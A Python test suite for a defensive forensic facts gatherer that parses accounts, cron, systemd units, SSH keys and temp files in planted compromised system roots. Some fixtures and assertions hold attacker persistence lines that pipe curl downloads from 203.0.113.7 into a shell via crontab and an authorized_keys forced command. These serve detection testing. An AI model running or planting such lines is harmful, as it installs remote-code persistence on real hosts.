"""The facts gatherer (backends.facts) and its decoder, on real files in temporary system roots
and on this machine."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from backends import facts as gatherer
from backends.facts import gather_facts
from backends.facts_decode import decode_facts
from domain.detect import Detector
from domain.facts import HostFacts
from domain.findings import Severity
from tests.sysroots import (
    FAKE_HASH,
    KEY_ED25519,
    Sysroot,
    build_compromised,
    set_immutable,
    write,
)

# Fixtures: planted processes, a fake pool, system roots.

REPO = Path(__file__).resolve().parent.parent


def gathered(root: Path, **kw: Any) -> tuple[dict[str, Any], HostFacts]:
    raw = gather_facts(str(root), **kw)
    # The result must survive JSON (it crosses SSH as JSON).
    raw = json.loads(json.dumps(raw, ensure_ascii=True))
    return raw, decode_facts(raw, "test-host")


def by_path(facts: HostFacts, path: str) -> Any:
    for f in facts.files:
        if f.meta.path == path:
            return f
    raise AssertionError(f"{path} not gathered: {[f.meta.path for f in facts.files]}")


def test_gatherer_imports_only_the_standard_library() -> None:
    source = (REPO / "backends/facts.py").read_text()
    imports = {
        line.split()[1].split(".")[0]
        for line in source.splitlines()
        if line.startswith(("import ", "from "))
    }
    assert imports <= set(sys.stdlib_module_names), imports - set(sys.stdlib_module_names)


def test_accounts_keep_password_state_never_the_hash(compromised_root: Sysroot) -> None:
    raw, facts = gathered(compromised_root.root)
    assert FAKE_HASH not in json.dumps(raw)
    assert "$6$" not in json.dumps(raw)
    users = facts.user_by_name()
    assert users["root"].password == "set"
    assert users["admin"].password == "locked"
    assert users["daemon"].password == "none"
    assert users["backdoor"].password == "empty"
    assert users["toor"].uid == 0
    assert users["backdoor"].last_change_day == 19990
    assert facts.shadow_readable


def test_unreadable_shadow_is_unknown_not_empty(tmp_path: Path) -> None:
    write(
        tmp_path,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nbob::1000:1000::/home/bob:/bin/sh\n",
    )
    _, facts = gathered(tmp_path)
    users = facts.user_by_name()
    assert users["root"].password == "unknown"  # hash in shadow, which is not there
    assert users["bob"].password == "empty"  # empty in passwd itself
    assert not facts.shadow_readable


def test_malformed_passwd_lines_are_reported_not_fatal(tmp_path: Path) -> None:
    write(
        tmp_path,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\ngarbage\nx:x:notanumber:0::/:/bin/sh\n\xff:::\n",
    )
    _, facts = gathered(tmp_path)
    assert [u.name for u in facts.users] == ["root"]
    assert {e.what for e in facts.errors} >= {"/etc/passwd line 2", "/etc/passwd line 3"}


def test_persistence_files_are_found_and_bounded(compromised_root: Sysroot) -> None:
    _, facts = gathered(compromised_root.root)
    crontab = by_path(facts, "/etc/crontab")
    assert crontab.kind == "cron"
    assert any("curl -fsSL http://203.0.113.7/ldm | sh" in line.text for line in crontab.lines)
    assert by_path(facts, "/var/spool/cron/crontabs/root").user == "root"
    unit = by_path(facts, "/etc/systemd/system/sysupdate.service")
    assert [line.text for line in unit.lines if line.text.startswith("ExecStart")] == [
        "ExecStart=/dev/shm/.s/sysupdate -c /dev/shm/.s/config.json"
    ]
    assert not any(line.text.startswith("Restart") for line in unit.lines)  # only what rules read
    link = by_path(facts, "/etc/systemd/system/update.service")
    assert link.meta.link == "/var/tmp/.u/update.service"
    assert by_path(facts, "/etc/ld.so.preload").lines[0].text == "/usr/local/lib/libioset.so"
    vendor = [f for f in facts.files if f.vendor]
    assert vendor and all(f.meta.path.startswith("/usr/lib/systemd/") for f in vendor)
    assert by_path(facts, "/home/backdoor/.bashrc").user == "backdoor"


def test_authorized_keys_are_parsed(compromised_root: Sysroot) -> None:
    _, facts = gathered(compromised_root.root)
    root_keys = [k for k in facts.authorized_keys if k.path == "/root/.ssh/authorized_keys"]
    plain, forced = root_keys
    assert (
        plain.key_type == "ssh-ed25519"
        and plain.command is None
        and plain.comment == "admin@laptop"
    )
    assert plain.fingerprint is not None and plain.fingerprint.startswith("SHA256:")
    assert forced.command == "curl -s http://203.0.113.7/s.sh | bash"
    assert forced.options == ('command="curl -s http://203.0.113.7/s.sh | bash"', "no-pty")
    assert forced.key_type == "ssh-rsa" and forced.comment == "backup@evil"
    redis = [k for k in facts.authorized_keys if k.user == "redis"]
    assert [k.valid for k in redis] == [False, True, False]
    assert "REDIS0009" in redis[0].comment


def test_option_splitting_respects_quotes() -> None:
    line = f'from="10.0.0.1,10.0.0.2",command="echo \\"a, b\\"",no-pty ssh-ed25519 {KEY_ED25519} c'
    options, rest = gatherer._Gatherer.split_options(line)
    assert options == ['from="10.0.0.1,10.0.0.2"', 'command="echo \\"a, b\\""', "no-pty"]
    assert rest.startswith("ssh-ed25519 ")
    assert gatherer._Gatherer.option_value(options[1]) == 'echo "a, b"'


def test_absolute_symlinks_stay_inside_the_sysroot(tmp_path: Path) -> None:
    """A link in the image to /etc/shadow must read the image's shadow, not the responder's."""
    root = tmp_path / "img"
    write(root, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
    write(root, "/etc/shadow", "root::19000:0:99999:7:::\n")
    (root / "etc/profile.d").mkdir(parents=True)
    os.symlink("/etc/shadow", root / "etc/profile.d/evil.sh")
    os.symlink("../../../../../../etc/hostname", root / "etc/profile.d/up.sh")
    os.symlink("loop2", root / "etc/profile.d/loop1.sh")
    os.symlink("loop1.sh", root / "etc/profile.d/loop2")
    write(root, "/etc/hostname", "image-host\n")
    _, facts = gathered(root)
    evil = by_path(facts, "/etc/profile.d/evil.sh")
    assert evil.meta.link == "/etc/shadow"
    assert [line.text for line in evil.lines] == ["root::19000:0:99999:7:::"]
    up = by_path(facts, "/etc/profile.d/up.sh")
    assert [line.text for line in up.lines] == ["image-host"]  # .. stops at the image's root
    assert facts.hostname == "image-host"
    assert any("loop" in e.reason for e in facts.errors)


def test_fifos_and_devices_are_never_opened(tmp_path: Path) -> None:
    root = tmp_path / "img"
    (root / "etc/cron.d").mkdir(parents=True)
    os.mkfifo(root / "etc/cron.d/fifo")  # opening it for reading would block forever
    os.symlink("/dev/zero", root / "etc/cron.d/zero")  # inside the image: does not exist
    os.symlink("/dev/zero", tmp_path / "zero")
    write(root, "/etc/cron.d/ok", "* * * * * root true\n")
    _, facts = gathered(root)
    paths = {f.meta.path for f in facts.files}
    assert "/etc/cron.d/ok" in paths
    assert by_path(facts, "/etc/cron.d/fifo").lines == ()


def test_large_files_are_read_up_to_the_limit(tmp_path: Path) -> None:
    write(tmp_path, "/etc/profile", "export A=1\n" * 20000 + "curl http://x | sh\n")
    write(tmp_path, "/etc/cron.d/long", "* * * * * root " + "x" * 10000 + "\n")
    _, facts = gathered(tmp_path)
    profile = by_path(facts, "/etc/profile")
    assert profile.truncated
    assert not any("curl" in line.text for line in profile.lines)
    long = by_path(facts, "/etc/cron.d/long")
    assert long.truncated and len(long.lines[0].text) == gatherer.MAX_LINE_CHARS


def test_hostile_bytes_are_kept_escaped(compromised_root: Sysroot) -> None:
    _, facts = gathered(compromised_root.root)
    lines = [line.text for line in by_path(facts, "/etc/cron.d/evil-text").lines]
    assert lines[0] == "# \x1b]0;PWNED\x07"  # kept as read: the UI escapes it
    assert "\\xff" in lines[1]  # not UTF-8: shown as \xNN


def test_immutable_flag_is_read(compromised_root: Sysroot) -> None:
    if not compromised_root.immutable:
        pytest.skip("this filesystem has no immutable flag (or no CAP_LINUX_IMMUTABLE)")
    _, facts = gathered(compromised_root.root)
    assert by_path(facts, "/etc/cron.d/tomcat").meta.immutable is True
    assert by_path(facts, "/etc/crontab").meta.immutable is False


def test_temp_and_setid_files(compromised_root: Sysroot) -> None:
    _, facts = gathered(compromised_root.root)
    temp = {t.meta.path: t for t in facts.temp_files}
    assert temp["/tmp/.ICE-unix/.x/sh"].meta.setuid
    assert temp["/tmp/kdevtmpfsi"].elf
    assert "/dev/shm/.s/sysupdate" in temp
    assert "/tmp/.ICE-unix/.x/sh" in {m.path for m in facts.setid_files}


def test_setid_scan_is_sysroot_only_by_default() -> None:
    raw = gather_facts("/", "/proc")
    assert raw["setid_files"] == []
    assert raw["sysroot"] is False


def test_logs_histories_and_rotation(compromised_root: Sysroot, debian_root: Sysroot) -> None:
    _, bad = gathered(compromised_root.root)
    logs = {log.path: log for log in bad.logs}
    assert logs["/var/log/auth.log"].meta is not None and logs["/var/log/auth.log"].meta.size == 0
    assert logs["/var/log/auth.log"].rotated == ()
    assert logs["/root/.bash_history"].meta is not None
    assert logs["/root/.bash_history"].meta.link == "/dev/null"
    _, good = gathered(debian_root.root)
    auth = {log.path: log for log in good.logs}["/var/log/auth.log"]
    assert [r.path for r in auth.rotated] == ["/var/log/auth.log.1"]


def test_probes(compromised_root: Sysroot) -> None:
    _, facts = gathered(
        compromised_root.root, probe_paths=["/tmp/kdevtmpfsi", "/etc/nothing", "relative"]
    )
    assert [m.path for m in facts.path_probes] == ["/tmp/kdevtmpfsi"]


def test_exe_probe_sees_a_replaced_binary(tmp_path: Path) -> None:
    exe = tmp_path / "daemon"
    shutil.copy2(shutil.which("sleep") or "/bin/sleep", exe)
    proc = subprocess.Popen([str(exe), "30"])
    try:
        raw = gather_facts(
            "/", "/proc", exe_probes=[(proc.pid, str(exe)), (proc.pid, "/gone/nowhere")]
        )
        facts = decode_facts(raw, "local")
        current = {p.path: p.current for p in facts.exe_probes}
        assert current[str(exe)] is not None and current[str(exe)].uid == os.getuid()
        assert current["/gone/nowhere"] is None
    finally:
        proc.kill()
        proc.wait()
        exe.unlink()  # no stray binaries left in /tmp


def test_this_machine_is_gathered_without_errors_or_hashes() -> None:
    raw, facts = gathered(Path("/"), proc_root="/proc")
    assert facts.users and facts.files
    assert facts.kernel is not None and facts.kernel.tainted is not None
    assert facts.foreign_mnt_ns_pids is not None
    assert not any(u.password == "set" and "$" in u.name for u in facts.users)
    text = json.dumps(raw)
    assert "$6$" not in text and "$y$" not in text and "$5$" not in text
    assert raw["gather_ms"] < 2000


def _python36() -> str | None:
    for candidate in ("python3.6", str(Path.home() / ".pyenv/versions/3.6.15/bin/python3.6")):
        found = shutil.which(candidate) or (candidate if Path(candidate).is_file() else None)
        if found:
            try:
                out = subprocess.run(
                    [found, "-c", "import sys; print(sys.version_info[:2])"],
                    capture_output=True,
                    text=True,
                    timeout=30,
                    check=False,
                )
            except OSError:
                continue
            if out.stdout.strip() == "(3, 6)":
                return found
    return None


def test_gatherer_runs_on_python_36_as_a_script(compromised_root: Sysroot) -> None:
    python36 = _python36()
    if python36 is None:
        pytest.skip("no Python 3.6 on this machine")
    source = (REPO / "backends/facts.py").read_bytes()
    out = subprocess.run(
        [python36, "-I", "-S", "-", str(compromised_root.root)],
        input=source,
        capture_output=True,
        timeout=60,
        check=True,
    )
    raw = json.loads(out.stdout)
    assert raw["schema"] == gatherer.SCHEMA
    modern = gather_facts(str(compromised_root.root))
    for key in ("users", "authorized_keys", "temp_files", "setid_files"):
        assert raw[key] == json.loads(json.dumps(modern[key])), key
    assert len(raw["files"]) == len(modern["files"])


def test_decoder_drops_bad_entries_and_reports_them() -> None:
    raw = {
        "schema": gatherer.SCHEMA,
        "root": "/",
        "gathered_at": 1.0,
        "users": [
            {
                "name": "root",
                "uid": 0,
                "gid": 0,
                "home": "/root",
                "shell": "/bin/sh",
                "password": "set",
            },
            {"name": "x", "uid": "0", "gid": 0, "home": "/", "shell": "", "password": "set"},
            {"name": "y", "uid": 1, "gid": 1, "home": "/", "shell": "", "password": "hash!"},
            "garbage",
        ],
        "files": [
            {"kind": "cron", "meta": {"path": "relative"}},
            {"kind": "nope", "meta": {"path": "/x"}},
        ],
        "kernel": {"tainted": 4096, "modules": [{"name": "rootkit", "taint": "OE"}, 7]},
        "foreign_mnt_ns_pids": "all",
        "install_time": float("nan"),
        "errors": [{"what": "/etc/shadow", "reason": "Permission denied"}],
    }
    facts = decode_facts(raw, "h")
    assert [u.name for u in facts.users] == ["root"]
    assert facts.files == ()
    assert facts.kernel is not None and [m.name for m in facts.kernel.modules or ()] == ["rootkit"]
    assert facts.foreign_mnt_ns_pids is None and facts.install_time is None
    whats = [e.what for e in facts.errors]
    assert "/etc/shadow" in whats and "facts: users[1]" in whats and "facts: files[0]" in whats
    assert "facts: foreign_mnt_ns_pids" in whats


hostile_bytes = st.binary(max_size=300) | st.sampled_from(
    [
        b"root:x:0:0:root:/ro\x00ot:/bin/bash\n",
        b"a:x:1:1::/etc/shadow/../../proc:/bin/sh\n",
        b'command="\\",, ssh-rsa\n',
        b"\xff\xfe:x:1000:1000::/home/\x1b[2J:/bin/sh\n",
        b"x" * 5000,
    ]
)


@settings(max_examples=60, deadline=None)
@given(passwd=hostile_bytes, cron=hostile_bytes, keys=hostile_bytes, unit=hostile_bytes)
def test_gatherer_never_raises_on_hostile_files(
    passwd: bytes, cron: bytes, keys: bytes, unit: bytes
) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        write(root, "/etc/passwd", passwd + b"\nroot:x:0:0::/root:/bin/sh\n")
        write(root, "/etc/shadow", passwd)
        write(root, "/etc/cron.d/x", cron)
        write(root, "/root/.ssh/authorized_keys", keys)
        write(root, "/etc/systemd/system/x.service", unit)
        raw = gather_facts(str(root))
        assert not [e for e in raw["errors"] if "internal error" in e["reason"]]
        facts = decode_facts(json.loads(json.dumps(raw)), "h")
        assert any(u.name == "root" for u in facts.users)


def test_decoder_rejects_a_non_object() -> None:
    facts = decode_facts(["not", "facts"], "h")
    assert facts.users == () and facts.errors[0].what == "facts"


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(max_size=8),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=6)
    ),
    max_leaves=30,
)
sections = st.fixed_dictionaries(
    {},
    optional=dict.fromkeys(
        (
            "users", "files", "authorized_keys", "logs", "kernel", "packages", "agents", "cloud",
            "temp_files", "setid_files", "path_probes", "exe_probes", "foreign_mnt_ns_pids",
            "errors", "os", "gathered_at", "root", "install_time",
        ),
        json_values,
    ),
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(sections)
def test_decoder_never_raises_on_garbage(data: dict[str, Any]) -> None:
    facts = decode_facts(data, "h")
    assert isinstance(facts, HostFacts)


def test_immutable_helper_cleans_up(tmp_path: Path) -> None:
    """The fixture's immutable flag must come off again (or the temp dir could not be removed)."""
    path = write(tmp_path, "/x", "x")
    if not set_immutable(path, True):
        pytest.skip("no immutable flag here")
    try:
        with pytest.raises(PermissionError):
            path.write_text("y")
    finally:
        set_immutable(path, False)
    path.write_text("y")


def test_sysroot_build_is_repeatable(tmp_path: Path) -> None:
    sysroot = build_compromised(tmp_path / "a")
    try:
        assert (sysroot.root / "tmp/.ICE-unix/.x/sh").stat().st_mode & 0o4000
    finally:
        sysroot.cleanup()
    assert not (sysroot.root / "tmp/.ICE-unix/.x/sh").stat().st_mode & 0o4000


def test_a_virtualenv_under_tmp_is_weighed_as_one(debian_root: Sysroot) -> None:
    """A CI checkout under /tmp has .venv/bin full of ELF tools: medium, not the high of a
    binary hidden in a dot-directory; without pyvenv.cfg the same layout stays high."""
    root = debian_root.root
    elf = Path(sys.executable).resolve().read_bytes()
    venv = root / "tmp/ci/.venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (venv / "bin/ruff").write_bytes(elf)
    (venv / "bin/ruff").chmod(0o755)
    fake = root / "tmp/.x/bin"
    fake.mkdir(parents=True)
    (fake / "ruff").write_bytes(elf)
    (fake / "ruff").chmod(0o755)

    _, facts = gathered(root)
    temp = {t.meta.path: t for t in facts.temp_files}
    assert temp["/tmp/ci/.venv/bin/ruff"].venv is True
    assert temp["/tmp/.x/bin/ruff"].venv is False
    findings = {
        f.evidence.path: f.severity
        for f in Detector().evaluate(None, facts, host="t")
        if f.rule_id == "FILE-TEMP-EXEC"
    }
    assert findings["/tmp/ci/.venv/bin/ruff"] == Severity.MEDIUM
    assert findings["/tmp/.x/bin/ruff"] == Severity.HIGH


def test_the_instance_id_cloud_init_recorded_is_gathered(tmp_path: Path) -> None:
    write(tmp_path, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
    write(tmp_path, "/var/lib/cloud/data/instance-id", "i-bp1example0001\n")
    _, facts = gathered(tmp_path)
    assert facts.cloud.instance_id == "i-bp1example0001"
